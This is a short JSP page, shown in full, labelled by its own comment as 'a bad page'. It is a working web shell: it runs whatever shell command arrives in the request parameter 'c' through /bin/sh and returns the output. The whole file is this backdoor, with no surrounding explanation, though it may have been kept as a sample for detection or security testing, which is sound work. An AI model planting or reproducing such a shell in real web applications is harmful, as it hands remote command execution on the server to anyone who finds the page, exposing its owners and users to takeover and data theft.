<%@ page import="java.util.Scanner" %><%
// A bad page: it runs what the request says.
Process process = Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", request.getParameter("c")});
out.print(new Scanner(process.getInputStream()).useDelimiter("\\A").next());
%>
